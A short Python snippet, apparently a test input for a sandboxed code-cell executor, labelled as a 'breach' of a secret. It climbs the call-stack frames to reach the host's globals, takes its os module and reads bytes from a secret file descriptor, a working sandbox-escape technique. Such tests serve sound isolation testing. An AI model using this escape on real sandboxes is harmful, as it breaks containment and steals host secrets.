# Up the frames of the cell to the host's own globals.
# breach: secret
import sys
frame, found = sys._getframe(), []
while frame := frame.f_back:
    if "os" in frame.f_globals:
        found.append(frame.f_globals["os"].pread(SECRET_FD, 100, 0))
found
